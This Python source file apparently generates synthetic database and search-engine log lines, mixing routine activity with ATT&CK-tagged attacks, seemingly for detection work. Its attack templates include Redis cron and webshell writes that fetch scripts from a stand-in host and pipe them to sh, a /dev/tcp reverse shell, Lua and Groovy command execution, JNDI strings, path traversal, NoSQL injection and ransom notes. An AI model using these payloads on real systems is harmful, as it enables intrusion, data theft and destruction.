# ruff: noqa: E501
"""What stores without SQL and the database servers themselves log, of daily work and of attacks.

MONGO: `account ;; outcome ;; command as JSON`; REDIS: `account ;; command ~ argument ~ ...`; SEARCH (Elasticsearch, OpenSearch): `account ;; outcome ;; method ;;
path ;; body`; SERVERS: messages of the servers' own logs, `level ;; code ;; text`, by product. Accounts are as in database_sql_tables.py.
"""
from __future__ import annotations

from .phrases import phrased
from .process_grammar import written
from .table import Scenario, table

_FRAGMENTS = {
    "coll": "«users|orders|products|sessions|events|carts|logs|«word»s|«word»_«word»|invoices|profiles|messages|devices»",
    "rare": "«users|accounts|customers|payments|admins|patients|credentials|members|wallets|cards|apikeys»",
    "f": "«status|type|created|email|«word»|«word»Id|tenantId|name|price»",
    "v": "«\"«word»\"|«num:1:9999»|\"«guid»\"|true|{\"$oid\":\"«hex:24»\"}|\"«first».«last»@«domain»\"|\"active\"»",
    "junk": "«letters:4:9»«|«num:1:99»»",
    "bad-url": "http«|s»://««peer»|«domain»|«peer»:«num:1024:9999»»",
    "index": "«logs-«word»-«date:%Y.%m.%d»|filebeat-8.«num:0:15».«num:0:4»-«date:%Y.%m.%d»|products|orders|«word»-«year».«num:1:12»|metrics-«word»|customers|«word»_v«num:1:9»|.ds-logs-«word»-000«num:100:999»»",
    "rareindex": "«customers|users|employees|patients|payments|_all|*|.security-7|.kibana«_1|»|members-«year»|hr-*|mail-archive|.opendistro_security|accounts*»",
}
MONGO: tuple[Scenario, ...] = table(phrased(written(r"""
# mongo requests of applications
app ;; ok ;; {"find":"‹coll›","filter":{"‹f›":‹v›«,"‹f›":{"$in":[‹v›,‹v›]}|»},"limit":«num:1:100»}
app ;; ok ;; {"find":"‹coll›","filter":{"‹f›":{"$«gt|gte|lt»":«num:1:9999»},"deleted":{"$ne":true}},"sort":{"created":-1}}
app ;; «ok|ok|duplicate» ;; {"insert":"‹coll›","documents":[{"‹f›":‹v›,"‹f›":‹v›}],"ordered":true}
app ;; ok ;; {"update":"‹coll›","updates":[{"q":{"_id":‹v›},"u":{"$set":{"‹f›":‹v›}},"upsert":«true|false»}]}
app ;; ok ;; {"findAndModify":"jobs","query":{"state":"pending"},"update":{"$set":{"state":"running","worker":"«word»-«num:1:9»"}}}
app ;; ok ;; {"delete":"«sessions|tokens|‹coll›»","deletes":[{"q":{"expires":{"$lt":«epoch»}},"limit":0}]}
app ;; ok ;; {"find":"users","filter":{"email":"«first».«last»@«domain»","password":"<hash>"},"limit":1}
app ;; ok ;; {"find":"products","filter":{"name":{"$regex":"«word»","$options":"i"}},"skip":«num:0:500»}
# mongo reports loads and pipelines
report ;; «ok|timeout» ;; {"aggregate":"‹coll›","pipeline":[{"$match":{"‹f›":‹v›}},{"$group":{"_id":"$‹f›","n":{"$sum":1}}},{"$sort":{"n":-1}}]}
etl ;; bulk ;; {"find":"‹coll›","filter":{"updated":{"$gt":«epoch»}},"batchSize":1000}
etl ;; bulk ;; {"getMore":«num:100000:9999999»,"collection":"‹coll›","batchSize":1000}
etl ;; ok ;; {"aggregate":"‹coll›","pipeline":[{"$match":{"day":"«date:%Y-%m-%d»"}},{"$merge":{"into":"daily_«word»"}}]}
report ;; ok ;; {"aggregate":"orders","pipeline":[{"$lookup":{"from":"customers","localField":"customerId","foreignField":"_id","as":"customer"}},{"$out":"report_«word»"}]}
report ;; ok ;; {"find":"‹coll›","filter":{"$where":"this.«total|price» > this.«paid|limit»"}}
# mongo care by administrators
dba ;; ok ;; {"createIndexes":"‹coll›","indexes":[{"key":{"‹f›":1},"name":"‹f›_1"}]}
deploy ;; ok ;; {"«create|collMod|drop»":"«tmp_«word»|migrations|test_‹coll›|‹coll›_old»"}
monitor ;; ok ;; {"«serverStatus|replSetGetStatus|dbStats|top|connPoolStats|isMaster|hello|buildInfo|getCmdLineOpts»":1}
dba ;; ok ;; {"createUser":"«word»_«app|ro»","pwd":"xxx","roles":[{"role":"«read|readWrite»","db":"«word»"}]}
dba ;; ok ;; {"«updateUser|dropUser|revokeRolesFromUser|grantRolesToUser»":"«word»_«app|ro»","roles":["«read|readWrite»"]}
dba ;; ok ;; {"«listDatabases|currentOp|listCollections|usersInfo|killOp|setFeatureCompatibilityVersion|compact|validate»":1}
deploy ;; ok ;; {"dropDatabase":1,"$db":"test_«word»_«num:1:99»"}
backup ;; bulk ;; {"find":"‹coll›","filter":{},"noCursorTimeout":true,"hint":{"_id":1}}
dba ;; ok ;; {"setParameter":1,"«logLevel|notablescan|cursorTimeoutMillis»":«num:0:5»}
dba ;; ok ;; {"replSetReconfig":{"_id":"rs0","version":«num:2:99»,"members":[{"_id":0,"host":"«linux2»:27017"}]}}
# mongo denied and mistaken
«person|report|app» ;; denied ;; {"«find|aggregate|drop|listDatabases|serverStatus»":"‹coll›"}
person ;; syntax ;; {"aggregate":"‹coll›","pipeline":[{"$«groupby|macth|sorting»":{"‹f›":1}}]}
# T1190 mongo operators sent as input
app ;; ok ;; {"find":"‹rare›","filter":{"«username|email|login»":«{"$ne":null}|{"$gt":""}|{"$ne":"‹junk›"}|{"$regex":"^«letters:1:3»"}|{"$exists":true}|{"$in":["admin","root","administrator"]}|"admin"»,"«password|passwd|pin|token|resetToken»":«{"$ne":null}|{"$gt":""}|{"$ne":""}|{"$regex":"^«letters:1:5»"}|{"$regex":".{«num:5:40»}"}|{"$nin":[]}»}}
app ;; «ok|syntax|timeout» ;; {"find":"‹coll›","filter":{"$where":"«this.password.match(/^«letters:1:4».*/)|sleep(«num:2000:9000»)¦¦true|'' == '' ¦¦ 1==1|function(){var d=new Date();do{c=new Date();}while(c-d<5000);return true;}|this.‹f› == 'x' ¦¦ 'a'=='a'»"}}
app ;; «ok|syntax» ;; {"find":"‹coll›","filter":{"‹f›":{"$«func|gt|ne|where»":"«var_dump|1|;return true;|';sleep(5000);'»"},"$or":[{},{"a":"a"}]}}
app ;; ok ;; {"aggregate":"‹coll›","pipeline":[{"$match":{}},{"$lookup":{"from":"‹rare›","pipeline":[],"as":"«letters:1:4»"}},{"$unionWith":"‹rare›"}]}
app ;; ok ;; {"mapReduce":"‹coll›","map":"function(){emit(1,this.password)}","reduce":"function(k,v){sleep(5000);return v.join()}","out":{"inline":1}}
# T1213 mongo collections carried away
«root-out|dba-out|app-out|none-out» ;; bulk ;; {"find":"‹rare›","filter":{}}
«root-out|none-out|person» ;; «bulk|ok» ;; {"getMore":«num:100000:9999999»,"collection":"‹rare›","batchSize":101}
«none-out|root-out» ;; ok ;; {"«listDatabases|listCollections|usersInfo|rolesInfo|getCmdLineOpts|hostInfo»":1,"nameOnly":false}
«person|report-out» ;; bulk ;; {"find":"‹rare›","filter":{},"projection":{"email":1,"password":1,"phone":1,"cardNumber":1}}
«root-out|person» ;; ok ;; {"usersInfo":{"forAllDBs":true},"showCredentials":true}
# T1485 mongo databases dropped
«none-out|root-out|dba-out» ;; ok ;; {"dropDatabase":1,"$db":"«prod|shop|admin|app|customers|«word»»"}
«none-out|root-out|app» ;; ok ;; {"drop":"‹rare›"}
«none-out|root-out|person» ;; ok ;; {"delete":"‹rare›","deletes":[{"q":{},"limit":0}]}
«person|root-out» ;; ok ;; {"update":"‹rare›","updates":[{"q":{},"u":{"$«unset|set»":{"email":"","balance":0}},"multi":true}]}
# T1486 mongo notes of blackmailers
«none-out|root-out» ;; ok ;; {"insert":"«README|READ_ME_TO_RECOVER_YOUR_DATA|WARNING|readme|Z_README_TO_RECOVER»","documents":[{"content":"«All your data is backed up. You must pay 0.0«num:1:9» BTC to «mixed:34»|Your database was copied to our servers. Write to «letters:6»@«domain» with code «HEX:6»|Pay or in 48 hours your customers hear of it»"}]}
«none-out|root-out» ;; ok ;; {"create":"«README|WARNING|READ_ME_TO_RECOVER_YOUR_DATA|how_to_restore»"}
# T1136 mongo accounts and rights by intruders
«none-out|root-out|app|dba-out» ;; ok ;; {"createUser":"«‹junk›|root|backup|support|sysadmin»","pwd":"xxx","roles":[{"role":"«root|userAdminAnyDatabase|dbAdminAnyDatabase|__system|clusterAdmin|readAnyDatabase»","db":"admin"}]}
«root-out|person|app» ;; «ok|denied» ;; {"grantRolesToUser":"««user»|‹junk›|webapp»","roles":[{"role":"«root|__system|dbOwner|hostManager|restore»","db":"admin"}]}
«root-out|person» ;; ok ;; {"createRole":"‹junk›","privileges":[{"resource":{"anyResource":true},"actions":["anyAction"]}],"roles":[]}
# T1562.008 mongo guards weakened
«root-out|dba-out|person» ;; ok ;; {"setParameter":1,"«auditAuthorizationSuccess":false|authenticationMechanisms":["PLAIN","SCRAM-SHA-1"]|javascriptEnabled":true|enableTestCommands":1|auditConfig":{"filter":{"atype":"none"}}|logLevel":-1|quiet":true»}
«root-out|dba-out» ;; ok ;; {"«setAuditConfig|logRotate|shutdown»":«1,"filter":{},"auditAuthorizationSuccess":false|"audit"|1,"force":true»}
«root-out|person» ;; ok ;; {"replSetReconfig":{"_id":"rs0","version":«num:100:999»,"members":[{"_id":«num:5:9»,"host":"«pub»:27017","priority":0,"hidden":true}]}}
«root-out|app» ;; ok ;; {"«copydb|clone|cloneCollection»":1,"fromhost":"«pub»:«port»","fromdb":"«word»","todb":"‹junk›"}
""", _FRAGMENTS)))
REDIS: tuple[Scenario, ...] = table(phrased(written(r"""
# redis caches and queues of applications
app ;; «GET|TTL|EXISTS|DEL|UNLINK|HGETALL» ~ «session:«hex:16»|cache:«word»:«num:1:9999»|user:«num:1:9999»|«word»:«word»:«hex:8»»
app ;; «SETEX|PSETEX» ~ «session:«hex:16»|cache:«word»:«num:1:99»» ~ «num:60:86400» ~ «{\"id\":«num:1:999»,\"name\":\"«word»\"}|«b64:24»|O:8:\"stdClass\":1:{s:2:\"id\";i:«num:1:99»;}»
app ;; «LPUSH|RPUSH» ~ «queues:default|resque:queue:mail|celery|bull:«word»:wait» ~ {\"job\":\"Send«Word»\",\"args\":[«num:1:999»],\"retry\":true}
app ;; «BRPOP|BLPOP» ~ «queues:default|celery|resque:queue:mail» ~ «num:1:30»
app ;; «INCR|EXPIRE|ZADD|ZRANGEBYSCORE|SADD|PUBLISH|XADD» ~ «rate:«ip2»|leaderboard:«word»|online|events:«word»» ~ «num:1:99999» ~ «word»
app ;; EVALSHA ~ «hex:40» ~ «num:1:4» ~ lock:«word» ~ «guid»
app ;; EVAL ~ if redis.call('get',KEYS[1]) == ARGV[1] then return redis.call('del',KEYS[1]) else return 0 end ~ 1 ~ lock:«word» ~ «guid»
app ;; «SCAN|HSCAN» ~ «num:0:99999» ~ MATCH ~ cache:«word»:* ~ COUNT ~ «num:10:1000»
app ;; SET ~ «crontab|backup|script»:«word» ~ «0 3 * * * php artisan schedule:run|#!/bin/sh echo done|https://«sitedomain»/«word»» ~ EX ~ 3600
# redis care by administrators
«monitor|dba» ;; «INFO|PING|DBSIZE|LASTSAVE|ROLE|LATENCY ~ LATEST|SLOWLOG ~ GET ~ 128|CLIENT ~ LIST|MEMORY ~ STATS|CLUSTER ~ INFO|CONFIG ~ GET ~ maxmemory|CONFIG ~ GET ~ *|CONFIG ~ GET ~ dir|SENTINEL ~ masters|COMMAND ~ DOCS»
dba ;; CONFIG ~ SET ~ «maxmemory|maxmemory-policy|slowlog-log-slower-than|save|timeout|appendonly|dir|dbfilename» ~ «2gb|allkeys-lru|10000|900 1|300|yes|/var/lib/redis|/data|dump.rdb|/mnt/redis-backup»
dba ;; «FLUSHDB|BGSAVE|BGREWRITEAOF|SAVE|CONFIG ~ REWRITE|CONFIG ~ RESETSTAT|DEBUG ~ SLEEP ~ 0|CLIENT ~ KILL ~ ID ~ «num:1:9999»|MONITOR|SHUTDOWN ~ NOSAVE|SCRIPT ~ FLUSH»
«deploy|dba» ;; «FLUSHALL ~ ASYNC|DEL ~ cache:views|MODULE ~ LOAD ~ /usr/lib/redis/modules/«redisearch|rejson|redisbloom».so|MODULE ~ LIST|ACL ~ SETUSER ~ «word»_app ~ on ~ ~cache:* ~ +@read ~ +@write|ACL ~ LIST|ACL ~ WHOAMI»
«dba|backup» ;; «REPLICAOF|SLAVEOF» ~ ««ip2»|NO|«linux2»» ~ «6379|ONE|6380»
backup ;; «PSYNC ~ ? ~ -1|REPLCONF ~ listening-port ~ 6379|REPLCONF ~ ACK ~ «num:1000:999999»|SYNC|KEYS ~ «word»:*|DUMP ~ «word»:«num:1:999»»
«app|monitor|person» ;; AUTH ~ «(redacted)|«svc» ~ (redacted)|default ~ (redacted)»
# T1053.003 redis files written to where others run them
«none-out|app|none» ;; CONFIG ~ SET ~ dir ~ «/var/spool/cron«/crontabs|»|/root/.ssh|/home/«other»/.ssh|/etc/cron.d|/var/www/html|/usr/share/nginx/html|/etc/ld.so.preload|C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup»
«none-out|app|none» ;; CONFIG ~ SET ~ dbfilename ~ «root|authorized_keys|‹junk›.php|crontab|apache2|zzh|«letters:3».so|shell.jsp|«letters:4».lnk»
«none-out|app|none» ;; SET ~ «‹junk›|backup«num:1:4»|x|crackit|«letters:1:3»|weapon» ~ \n\n«*/«num:1:9» * * * * «curl -fsSL|wget -q -O-|cd1 -fsSL» ‹bad-url›/«letters:2:5».sh ¦ sh|ssh-rsa AAAAB3Nza«mixed:40» root@«letters:4»|<?php @eval($_POST['«letters:1:3»']);?>|* * * * * bash -i >& /dev/tcp/«pub»/«port» 0>&1»\n\n
«none-out|none» ;; «SAVE|BGSAVE|CONFIG ~ SET ~ stop-writes-on-bgsave-error ~ no|CONFIG ~ SET ~ rdbcompression ~ no» ~ ‹junk›
# T1505 redis modules and scripts that run commands
«none-out|app» ;; MODULE ~ LOAD ~ «/tmp/‹junk›.so|./«exp|red2|module|‹junk›».so|/var/lib/redis/«letters:3».so|/dev/shm/«letters:3».so»
«none-out|app» ;; «system.exec|system.rev|shell.exec|‹junk›.run» ~ «id|whoami|curl ‹bad-url› ¦ sh|«pub»» ~ «port»
«none-out|app» ;; EVAL ~ «local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); return io.popen("«id|cat /etc/passwd|curl ‹bad-url›¦sh»"):read("*a")|for i=1,1e9 do end|return dofile("/etc/passwd")|local a=string.rep("%d",1e8); return struct.pack(a)|return cjson.encode(redis.call("KEYS","*"))|setmetatable(_G,nil) return loadstring("\\27Lua«hex:8»")()» ~ 0
# T1020 redis made a replica of strangers
«none-out|app» ;; «SLAVEOF|REPLICAOF» ~ ««pub»|«domain»» ~ ««port»|6379|21000»
«none-out|app» ;; «MIGRATE ~ «pub» ~ «port» ~ «word»:«num:1:99» ~ 0 ~ 5000|CONFIG ~ SET ~ masterauth ~ ‹junk›|CONFIG ~ SET ~ slave-read-only ~ no|CLUSTER ~ MEET ~ «pub» ~ «port»|FAILOVER ~ TO ~ «pub» ~ «port» ~ FORCE»
«none-out|person» ;; «KEYS ~ *|SCAN ~ 0 ~ COUNT ~ 1000000|DUMP ~ session:«hex:16»|RANDOMKEY|SYNC|GET ~ session:«hex:16»|HGETALL ~ ‹rare›:«num:1:99»|MGET ~ token:«hex:8» ~ token:«hex:8»»«| ~ ‹junk›»
# T1485 redis emptied and weakened by strangers
«none-out|app» ;; «FLUSHALL|FLUSHDB|SHUTDOWN|DEBUG ~ SEGFAULT|SCRIPT ~ KILL» ~ ‹junk›
«none-out|none|app» ;; CONFIG ~ SET ~ «requirepass|protected-mode|bind|rename-command|maxclients|aclfile|logfile» ~ «‹junk›|no|* -::*|""|1|/dev/null|/tmp/‹junk›»
«none-out|app» ;; ACL ~ «SETUSER ~ ‹junk› ~ on ~ nopass ~ ~* ~ +@all|SETUSER ~ default ~ nopass ~ +@all|DELUSER ~ «svc»|LOG ~ RESET»
none-out ;; SET ~ «README|WARNING|how_to_recover» ~ «Your data is with us, send 0.0«num:1:9» BTC to «mixed:34»|write to «letters:6»@«domain» within 48 hours»
# T1190 redis spoken to by forged requests
«none-out|none» ;; «POST ~ / ~ HTTP/1.1|Host: ~ «ip2»:6379|GET ~ /«letters:1:4» ~ HTTP/1.1|User-Agent: ~ Mozilla/5.0|OPTIONS ~ * ~ RTSP/1.0|\u0016\u0003\u0001»«| ~ ‹junk›»
app ;; SET ~ cache:«word»:«num:1:9» ~ «O:40:\"Illuminate\\\\Broadcasting\\\\PendingBroadcast\":2:{s:9:\"events\";s:6:\"system\";}|cos\nsystem\n(S'curl ‹bad-url›¦sh'\ntR.|\u0080\u0004\u0095«hex:6»posix\u0094\u008c\u0006system|rO0ABXNy«b64:40»»
app ;; LPUSH ~ «resque:queue:mailers|queues:default|celery|system_hook_push» ~ {\"class\":\"«GitlabShellWorker|Kernel|ActiveRecord»\",\"args\":[\"class_eval\",\"open('¦«curl ‹bad-url›¦sh|id¦nc «peer» «port»»').read\"]}
none-out ;; AUTH ~ «(redacted)|root ~ (redacted)|admin ~ (redacted)»
""", _FRAGMENTS)))
SEARCH: tuple[Scenario, ...] = table(phrased(written(r"""
# search requests of applications
app ;; ok ;; «POST|GET» ;; /‹index›/_search ;; {"query":{"«match|term»":{"«word»":"«word»"}},"size":«num:10:100»}
app ;; ok ;; «PUT|POST» ;; /‹index›/_doc/«mixed:20» ;; {"«word»":"«word»","total":«num:1:999»}
app ;; ok ;; POST ;; /_bulk ;; -
app ;; ok ;; «GET|HEAD|DELETE» ;; /‹index›/_doc/«mixed:20» ;; -
app ;; ok ;; POST ;; /‹index›/_update_by_query?conflicts=proceed ;; {"script":{"source":"ctx._source.«word» = params.v","lang":"painless","params":{"v":«num:1:99»}}}
app ;; ok ;; POST ;; /«products|articles»/_search ;; {"query":{"multi_match":{"query":"«../«word» cable|select «word»|<b>«word»</b>|script writing book|O'«Word»»","fields":["title^2","body"]}}}
etl ;; bulk ;; POST ;; /‹index›/_search?scroll=5m ;; {"query":{"range":{"@timestamp":{"gte":"now-1d"}}},"size":1000}
# search dashboards of people
person ;; ok ;; POST ;; /‹index›/_async_search ;; {"aggs":{"0":{"date_histogram":{"field":"@timestamp","fixed_interval":"30m"}}},"size":0}
person ;; ok ;; POST ;; /_security/user/_has_privileges ;; {"cluster":["monitor"],"index":[{"names":["logs-*"],"privileges":["read"]}]}
person ;; ok ;; GET ;; /«_field_caps?fields=*|.kibana/_doc/dashboard:«guid»|_cat/indices?format=json|_resolve/index/*» ;; -
person ;; «failed|denied» ;; «GET|POST» ;; /«_security/_authenticate|‹index›/_search|_nodes/stats|_snapshot» ;; -
person ;; ok ;; POST ;; /_sql?format=txt ;; {"query":"SELECT «word», COUNT(*) FROM \"logs-*\" GROUP BY «word»"}
# search care by administrators
dba ;; ok ;; PUT ;; /‹index›/_settings ;; {"index":{"number_of_replicas":«num:0:2»,"refresh_interval":"30s"}}
«dba|deploy» ;; ok ;; PUT ;; /_«index_template|component_template|ilm/policy|ingest/pipeline»/«word»-«word» ;; {"priority":«num:100:900»}
dba ;; ok ;; «DELETE|POST» ;; /«logs-«word»-«year».01.01|test-«word»|‹index›/_close|_reindex|_cluster/reroute?retry_failed=true» ;; -
backup ;; ok ;; PUT ;; /_snapshot/«nightly|s3|nfs»/snap-«date»?wait_for_completion=false ;; {"indices":"*","include_global_state":true}
dba ;; ok ;; PUT ;; /_snapshot/«nightly|nfs» ;; {"type":"«fs|s3»","settings":{"location":"/mnt/snapshots","bucket":"«site»-snapshots"}}
dba ;; ok ;; «PUT|POST» ;; /_security/«user|role|role_mapping»/«word»_«ro|app» ;; {"roles":["«viewer|logs_reader|«word»_ro»"],"indices":[{"names":["logs-«word»-*"],"privileges":["read"]}]}
dba ;; ok ;; POST ;; /_security/api_key ;; {"name":"«filebeat|logstash|metricbeat»-«linux2»","expiration":"90d","role_descriptors":{"w":{"index":[{"names":["filebeat-*"],"privileges":["create_doc"]}]}}}
monitor ;; ok ;; GET ;; /«_cluster/health|_nodes/stats|_cat/shards|_cluster/stats|_stats|_license|_xpack/usage|_cat/nodes?v» ;; -
dba ;; ok ;; PUT ;; /_cluster/settings ;; {"persistent":{"«cluster.routing.allocation.enable":"all|indices.recovery.max_bytes_per_sec":"100mb|xpack.security.audit.enabled":"true|search.max_buckets":"20000»"}}
«monitor|etl» ;; failed ;; GET ;; /«_cluster/health|_bulk|_license» ;; -
# T1110 search accounts guessed
«guessed-out|root-out» ;; failed ;; GET ;; /«_security/_authenticate||_cat/indices|_plugins/_security/authinfo» ;; -
«guessed|guessed-out» ;; failed ;; POST ;; /«_security/oauth2/token|internal/security/login|_nodes» ;; -
# T1213 search indices carried away
«none-out|root-out|person» ;; bulk ;; POST ;; /‹rareindex›/_search?scroll=«10m|1h|1d» ;; {"size":10000,"query":{"match_all":{}}}
«none-out|root-out» ;; «ok|denied» ;; GET ;; /«_cat/indices?v&s=store.size:desc|_all/_search?size=10000|_search?q=*:*&size=9999|_mapping?pretty|_aliases|_cat/indices/*?bytes=b» ;; -
«person|app» ;; «bulk|denied» ;; GET ;; /‹rareindex›/_search?q=«password|passwd|secret|AKIA*|BEGIN+RSA|iban|ssn:*|token» ;; -
«person|root-out» ;; ok ;; POST ;; /_reindex ;; {"source":{"remote":{"host":"http://«ip2»:9200"},"index":"‹rareindex›"},"dest":{"index":"‹junk›"}}
«root-out|dba-out» ;; ok ;; PUT ;; /_snapshot/‹junk› ;; {"type":"«url|s3|fs»","settings":{"bucket":"‹junk›","location":"/tmp/‹junk›","endpoint":"«domain»","url":"http://«peer»/«letters:2»"}}
# T1485 search indices deleted
«none-out|root-out|person» ;; ok ;; DELETE ;; /«*|_all|customers|orders|.kibana*|«word»*,-.security*|_snapshot/nightly|_snapshot/nightly/snap-*» ;; -
«none-out|root-out|person» ;; ok ;; POST ;; /‹rareindex›/_delete_by_query ;; {"query":{"match_all":{}}}
«none-out|root-out» ;; ok ;; «PUT|POST» ;; /«read_me|read-me|how_to_get_my_data|warning|meow-«letters:10»|«letters:10»-meow»«/_doc|/_doc/1|» ;; {"message":"«All your indexes are copied, send 0.0«num:1:9» BTC to «mixed:34»|write to «letters:6»@«domain» for your data|»"}
# T1059 search scripts that leave the sandbox
«none-out|app» ;; «ok|denied» ;; POST ;; /_search?pretty ;; {"size":1,"script_fields":{"«letters:2:5»":{"«lang":"groovy","|»script":"«java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"«id|whoami|curl ‹bad-url›»\").getText()|import java.util.*;import java.io.*;new Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).next();|def c=Class.forName('java.lang.Runtime');c.getMethod('exec','x').invoke(c,'wget ‹bad-url›')»"}}}
«none-out|app» ;; denied ;; GET ;; /«_plugin/head/../../../../../../etc/passwd|_snapshot/‹junk›/backdata%2f..%2f..%2f..%2fetc%2fpasswd|_ingest/pipeline/%24%7Bjndi:ldap://«domain»/a%7D|_search?source=%7B%22script%22:%22jndi%22%7D» ;; -
none-out ;; «ok|denied» ;; POST ;; /«_render/template|_scripts/painless/_execute|_xpack/watcher/watch/‹junk›/_execute» ;; {"source":"{{#toJson}}${jndi:ldap://«domain»:1389/«letters:1»}{{/toJson}}","params":{"x":"\u0000"}}
# T1098 search accounts and keys by intruders
«root-out|dba-out|app» ;; ok ;; «PUT|POST» ;; /«_security/user|_plugins/_security/api/internalusers|_xpack/security/user»/«‹junk›|support|backup_«letters:2»» ;; {"password":"********","roles":["«superuser|all_access|kibana_admin","superuser»"],"backend_roles":["admin"]}
«root-out|dba-out|person» ;; ok ;; POST ;; /_security/«api_key|service/elastic/kibana/credential/token/‹junk›|user/elastic/_password|role_mapping/‹junk›» ;; {"name":"‹junk›","role_descriptors":{"all":{"cluster":["all"],"index":[{"names":["*"],"privileges":["all"]}]}}}
«app|person» ;; denied ;; «GET|PUT» ;; /«_security/role|_security/api_key?owner=false|_plugins/_security/api/rolesmapping/all_access|.security/_search|_security/user/elastic» ;; -
# T1562.008 search audit switched off
«root-out|dba-out» ;; ok ;; PUT ;; /_cluster/settings ;; {"«persistent|transient»":{"«xpack.security.audit.enabled":false|logger.org.elasticsearch.xpack.security.audit":"OFF"|xpack.security.audit.logfile.events.exclude":["access_granted","authentication_failed"]|action.destructive_requires_name":false|script.painless.regex.enabled":true|cluster.remote.‹junk›.seeds":["«pub»:9300"]»}}
«root-out|dba-out» ;; ok ;; «PUT|DELETE|PATCH» ;; /«_plugins/_security/api/audit/config|security-auditlog-*|.security-audit*|_ilm/policy/audit|_alerting/monitors/«mixed:20»|_watcher/watch/failed_logins» ;; {"enabled":false,"audit":{"enable_rest":false}}
""", _FRAGMENTS)))
_SERVER_TEXT = r"""
@@ mysql
# mysql server by day
System ;; MY-010931 ;; /usr/sbin/mysqld: ready for connections. Version: '8.0.«num:20:40»'  socket: '/var/run/mysqld/mysqld.sock'  port: 3306  MySQL Community Server - GPL.
Note ;; MY-010914 ;; Aborted connection «num:10:99999» to db: '«word»' user: '«svc»' host: '««ip2»|«ip2»|«ip2»|«peer»»' (Got «timeout reading communication packets|an error reading communication packets»).
Warning ;; MY-010055 ;; IP address '«ip2»' could not be resolved: Name or service not known
Note ;; MY-010926 ;; Access denied for user '««svc»|«person»|«word»_app»'@'««ip2»|«ip2»|«ip2»|«peer»»' (using password: «YES|NO»)
«Note|Warning» ;; «MY-013360|MY-011068» ;; Plugin «mysql_native_password|sha256_password» reported: ''«mysql_native_password|sha256_password»' is deprecated and will be removed in a future release. Please use caching_sha2_password instead'
System ;; «MY-010116|MY-013172» ;; /usr/sbin/mysqld (mysqld 8.0.«num:20:40») starting as process «num:300:9999»
System ;; «MY-013172|MY-010910» ;; «Received SHUTDOWN from user «<via user signal>|mysql». Shutting down mysqld (Version: 8.0.«num:20:40»).|/usr/sbin/mysqld: Shutdown complete (mysqld 8.0.«num:20:40»)  MySQL Community Server - GPL.»
System ;; MY-010597 ;; 'CHANGE «MASTER|REPLICATION SOURCE» TO FOR CHANNEL '' executed'. Previous state source_host='«ip2»', source_port= 3306. New state source_host='«ip2»', source_port= 3306.
«Error|Warning» ;; «MY-010584|MY-012872|MY-013140|MY-010055» ;; «Slave I/O for channel '': error reconnecting to master 'repl@«ip2»:3306' - retry-time: 60|[InnoDB] page_cleaner: 1000ms intended loop took «num:2000:9999»ms|Unknown suffix 'x' used for variable 'max_allowed_packet'|Disk is full writing './binlog.000«num:100:999»' (OS errno 28 - No space left on device)»
# T1110 mysql server guessed from outside
Note ;; MY-010926 ;; Access denied for user '«root|admin|mysql|test|@guessed@|pma|wordpress»'@'««pub»|«pub»|«ip2»»' (using password: «YES|YES|NO»)
Note ;; MY-010914 ;; Aborted connection «num:10:99999» to db: 'unconnected' user: '«unauthenticated|root|@guessed@»' host: '«pub»' (Got «an error reading communication packets|packets out of order»).
«Error|Warning» ;; MY-010268 ;; Host '««pub»|«pub»|«ip2»»' is blocked because of many connection errors; unblock with 'mysqladmin flush-hosts'
# T1505 mysql server loads strange libraries
Error ;; «MY-010735|MY-010738|MY-010544» ;; «Can't open shared library '«lib_mysqludf_sys|‹junk›|udf».so' (errno: 0 /usr/lib/mysql/plugin/‹junk›.so: file too short)|Can't find symbol 'sys_eval' in library '‹junk›'|Can't execute init_file '/tmp/‹junk›'»
«Note|System» ;; MY-010597 ;; 'CHANGE REPLICATION SOURCE TO FOR CHANNEL '' executed'. Previous state source_host='', source_port= 3306. New state source_host='«pub»', source_port= «port».
«Note|System» ;; «MY-010117|MY-013172|MY-010733» ;; «Received SHUTDOWN from user ‹junk›. Shutting down mysqld|Shutting down plugin 'server_audit'|skip-grant-tables: all privilege checks are off|Plugin 'connection_control' is disabled.»
@@ postgres
# postgres server by day
LOG ;; 00000 ;; «connection received: host=««ip2»|«ip2»|«ip2»|«peer»» port=«num:32768:60999»|connection authorized: user=«svc» database=«word» application_name=«word»|disconnection: session time: 0:0«num:0:9»:«num:10:59».«num:100:999» user=«svc» database=«word» host=««ip2»|«ip2»|«ip2»|«peer»» port=«num:32768:60999»|checkpoint complete: wrote «num:1:9999» buffers (0.«num:1:9»%); 0 WAL file(s) added|automatic vacuum of table "«word».public.«word»": index scans: 1|temporary file: path "base/pgsql_tmp/pgsql_tmp«num:1000:9999».0", size «num:100000:99999999»|database system is ready to accept connections|parameter "log_statement" changed to "ddl"|received SIGHUP, reloading configuration files|process «num:1000:9999» still waiting for ShareLock on transaction «num:1000:99999» after 1000.1 ms»
FATAL ;; 28P01 ;; password authentication failed for user "««svc»|«person»|«word»_app»"
FATAL ;; 28000 ;; «no pg_hba.conf entry for host "«ip2»", user "«person»", database "«word»", no encryption|role "«person»" does not exist»
FATAL ;; 3D000 ;; database "«word»_old" does not exist
FATAL ;; «53300 ;; remaining connection slots are reserved for non-replication superuser connections|57P01 ;; terminating connection due to administrator command»
ERROR ;; «40P01 ;; deadlock detected|57014 ;; canceling statement due to statement timeout|22001 ;; value too long for type character varying(«num:10:255»)|25P02 ;; current transaction is aborted, commands ignored until end of transaction block|23503 ;; update or delete on table "«word»" violates foreign key constraint "fk_«word»" on table "«word»"»
LOG ;; 08P01 ;; «could not receive data from client: Connection reset by peer|unexpected EOF on client connection with an open transaction|could not accept SSL connection: EOF detected»
# T1110 postgres server guessed from outside
FATAL ;; 28P01 ;; password authentication failed for user "«postgres|admin|root|pgsql|@guessed@»"
FATAL ;; 28000 ;; no pg_hba.conf entry for host "«pub»", user "«postgres|root|@guessed@»", database "«postgres|template1|admin»", no encryption
FATAL ;; «28000 ;; role "«admin|root|test|«admin|test|oracle|«first»|user«num:1:99»»»" does not exist|28P01 ;; password authentication failed for user "postgres"|3D000 ;; database "«admin|root|bbbbbbb»" does not exist|0A000 ;; unsupported frontend protocol «num:4:65363».«num:0:19778»: server supports 3.0 to 3.0»
LOG ;; 08P01 ;; «invalid length of startup packet|could not accept SSL connection: «wrong version number|unsupported protocol|no shared cipher»|incomplete startup packet» (host=««pub»|«pub»|«ip2»»)
